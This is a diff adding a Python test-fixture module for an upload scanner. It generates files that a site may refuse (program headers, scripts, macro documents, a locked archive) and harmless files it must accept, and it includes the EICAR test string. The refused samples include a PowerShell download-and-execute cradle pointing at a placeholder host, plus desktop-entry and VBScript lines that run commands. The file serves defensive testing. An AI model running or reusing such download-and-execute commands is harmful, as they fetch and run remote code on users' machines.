@@ -1,0 +1,173 @@
+# SPDX-License-Identifier: GPL-3.0-or-later
+"""Files for the scanner, made on the spot: the test virus that all scanners know, what a site may refuse, and what it
+must let through.
+
+The text of the test virus stands in no file: a scanner elsewhere would take the file away.
+"""
+
+from __future__ import annotations
+
+import io
+import struct
+import zipfile
+import zlib
+
+MADE_UP = "sallyport-made-up-" + "marker"
+"""The made-up virus of the demo's own signatures."""
+SECTOR = 512
+
+
+def eicar() -> bytes:
+    """Return the test virus of the European Institute for Computer Antivirus Research."""
+    return ("X5O!P%@AP[4" + "\\PZX54(P^)7CC)7}" + "$EICAR-STANDARD-" + "ANTIVIRUS-TEST-FILE!" + "$H+H*").encode()
+
+
+def zipped(**files: bytes) -> bytes:
+    """Return a zip archive; in names, two underscores stand for a dot."""
+    made = io.BytesIO()
+    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, content in files.items():
+            archive.writestr(name.replace("__", "."), content)
+    return made.getvalue()
+
+
+def locked() -> bytes:
+    """Return a zip archive whose one file is said to be encrypted."""
+    made = bytearray(zipped(plan__txt=b"a plan" * 9))
+    for mark, where in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
+        made[made.index(mark) + where] |= 1
+    return bytes(made)
+
+
+def windows_program() -> bytes:
+    """Return the beginning of a program of Windows: its header, and one section without content."""
+    dos = b"MZ" + bytes(58) + struct.pack("<I", 64)
+    head = struct.pack("<4sHHIIIHH", b"PE\0\0", 0x14C, 1, 0, 0, 0, 224, 0x102)
+    optional = struct.pack("<HBBIIIIII", 0x10B, 9, 0, 512, 0, 0, 4096, 4096, 8192) + struct.pack(
+        "<IIIHHHHHHIIIIHHIIIIII", 0x400000, 4096, 512, 4, 0, 0, 0, 4, 0, 0, 8192, 512, 0, 3, 0, 4096, 4096, 4096, 4096, 0, 16
+    )
+    section = struct.pack("<8sIIIIIIHHI", b".text", 512, 4096, 512, 512, 0, 0, 0, 0, 0x60000020)
+    return (dos + head + optional + bytes(224 - len(optional)) + section).ljust(512, b"\0") + b"\xc3" * 512
+
+
+def ole(**streams: bytes) -> bytes:
+    """Return a compound file, as old documents of Office are; in names, two underscores at the front stay."""
+    contents = [content.ljust(4096, b"\0") for content in streams.values()]
+    entries = [_entry("Root Entry", 5, 1, 0xFFFFFFFE, 0)]
+    table, begin = [0xFFFFFFFD, 0xFFFFFFFE], 2
+    for number, (name, content) in enumerate(zip(streams, contents, strict=True)):
+        sectors = len(content) // SECTOR
+        table += [*range(begin + 1, begin + sectors), 0xFFFFFFFE]
+        last = number == len(contents) - 1
+        entries.append(_entry(name, 2, 0xFFFFFFFF, begin, len(content), right=0xFFFFFFFF if last else number + 2))
+        begin += sectors
+    entries += [bytes(128)] * (4 - len(entries))
+    header = struct.pack("<8s16sHHHHH6sIIIIIIIII", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"", 0x3E, 3, 0xFFFE, 9, 6, b"",
+                         0, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
+    header += struct.pack("<I", 0) + b"\xff" * 4 * 108
+    fat = struct.pack(f"<{len(table)}I", *table).ljust(SECTOR, b"\xff")
+    return header + fat + b"".join(entries[:4]) + b"".join(contents)
+
+
+def _entry(name: str, kind: int, child: int, begin: int, size: int, right: int = 0xFFFFFFFF) -> bytes:
+    written = name.encode("utf-16-le")
+    return struct.pack("<64sHBBIII16sIQQIQ", written, len(written) + 2, kind, 1, 0xFFFFFFFF, right, child, b"", 0, 0, 0,
+                       begin, size)
+
+
+def word(text: str, **more: bytes) -> bytes:
+    """Return a document of Word with a text, and further parts."""
+    body = f'<?xml version="1.0"?><w:document xmlns:w="w"><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>'
+    types = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
+    made = io.BytesIO()
+    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("[Content_Types].xml", types)
+        archive.writestr("word/document.xml", body)
+        for name, content in more.items():
+            archive.writestr(f"word/{name}.bin", content)
+    return made.getvalue()
+
+
+def picture() -> bytes:
+    """Return a picture of one pixel (PNG)."""
+    parts = ((b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)), (b"IDAT", zlib.compress(b"\0\xff\0\0")), (b"IEND", b""))
+    chunks = (struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data)) for kind, data in parts)
+    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks)
+
+
+def pdf() -> bytes:
+    """Return a page that says something (PDF)."""
+    text = b"BT /F1 12 Tf 72 720 Td (Minutes of the meeting) Tj ET"
+    return (
+        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
+        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>endobj\n"
+        b"4 0 obj<</Length " + str(len(text)).encode() + b">>stream\n" + text + b"\nendstream endobj\n"
+        b"trailer<</Root 1 0 R/Size 5>>\n%%EOF\n"
+    )
+
+
+def _wide(text: str) -> bytes:
+    return b"\xff\xfe" + text.encode("utf-16-le")
+
+
+HOW_TO = (
+    "How to stop a service on Windows: open PowerShell, say Stop-Service, and look at it with Get-Service. Old scripts "
+    "use CreateObject for this. A batch file begins with @echo off. MZ is how programs begin.\n"
+)
+SOURCE = {
+    "main__py": b'"""A program."""\n\nimport os\n\n\ndef main():\n    print(os.name)\n',
+    "main__c": b"#include <stdio.h>\nint main(void) { return 0; }\n",
+    "page__js": b"export function add(a, b) { return a + b; }\n",
+    "index__html": b"<!DOCTYPE html><html><head><script>let a = 1;</script></head><body>x</body></html>\n",
+}
+
+REFUSED: dict[str, tuple[str, bytes]] = {
+    "program of Windows": ("executable", windows_program()),
+    "program of Linux": ("executable", b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HH", 2, 62) + bytes(80)),
+    "program of macOS": ("executable", bytes.fromhex("cffaedfe0c000001000000000200000000000000") + bytes(60)),
+    "class of Java": ("executable", bytes.fromhex("cafebabe0000003d") + bytes(60)),
+    "JAR": ("executable", zipped(Main__class=bytes.fromhex("cafebabe0000003d") + bytes(60))),
+    "code of Android": ("executable", b"dex\n035\0" + bytes(104)),
+    "shortcut": ("executable", bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(60)),
+    "starter of Windows": ("executable", b"[InternetShortcut]\r\nURL=file://10.0.0.1/x\r\n"),
+    "starter of Linux": ("executable", b"#\n[Desktop Entry]\nType=Application\nExec=sh -c id\n"),
+    "package of Debian": ("executable", b"!<arch>\ndebian-binary   1700000000  0     0     100644  4         `\n2.0\n"),
+    "compiled Python": ("executable", bytes.fromhex("f30d0d0a00000000") + bytes(40)),
+    "shell script": ("script", b"#!/bin/sh\nid\n"),
+    "Python script": ("script", b"#!/usr/bin/env python3\nprint(1)\n"),
+    "batch file": ("script", b"@ECHO OFF\r\nstart calc\r\n"),
+    "PowerShell": ("script", b"param([string]$Name)\nGet-Item $Name\n"),
+    "PowerShell in UTF-16": ("script", _wide("#Requires -Version 5\r\nGet-Item x\r\n")),
+    "PowerShell that downloads": (
+        "script",
+        b"$w = New-Object Net.WebClient\n$c = $w.DownloadString('http://x.example')\nInvoke-Expression $c\n",
+    ),
+    "VBScript": ("script", b'Set s = CreateObject("WScript.Shell")\ns.Run "calc"\n'),
+    "JScript": ("script", b"var s = new ActiveXObject('WScript.Shell');\ns.Run('calc');\n"),
+    "encoded JScript": ("script", b"#@~^DgAAAA==\\ko$K6,JtbJ@!rQMAAA==^#~@"),
+    "HTA": ("script", b"<html><head><HTA:APPLICATION id=x></head><body></body></html>"),
+    "WSF": ("script", b"<?xml version='1.0'?><job><script language='JScript'>1</script></job>"),
+    "registry": ("script", _wide("Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\x]\r\n")),
+    "old document with macros": ("macro", ole(WordDocument=b"x" * 4096, _VBA_PROJECT=b"\xcc\x61" + bytes(4094))),
+    "document with macros": ("macro", word("Invoice", vbaProject=ole(_VBA_PROJECT=b"\xcc\x61" + bytes(4094)))),
+    "locked archive": ("encrypted", locked()),
+}
+"""What a site may refuse: the kind, and a file of it."""
+
+PERMITTED: dict[str, bytes] = {
+    "text": b"Minutes of the meeting\n",
+    "text about scripts": HOW_TO.encode(),
+    "text that begins with MZ": b"MZ 4711 is the number of the order.\n",
+    "text in UTF-16": _wide("Minutes of the meeting\r\n"),
+    "Markdown": b"# Heading\n\n#! is how scripts begin.\n",
+    "table": b"name;sum\nEk;12\n",
+    "picture": picture(),
+    "PDF": pdf(),
+    "document": word("Minutes of the meeting"),
+    "document about scripts": word(HOW_TO + "CreateObject WScript.Shell Invoke-Expression DownloadString( Net.WebClient"),
+    "old document": ole(WordDocument=b"x" * 4096),
+    "page": SOURCE["index__html"],
+    "source code in an archive": zipped(**SOURCE),
+    "archive in an archive": zipped(inner__zip=zipped(minutes__txt=b"Minutes\n")),
+}
+"""Files like these people share, and they must pass."""
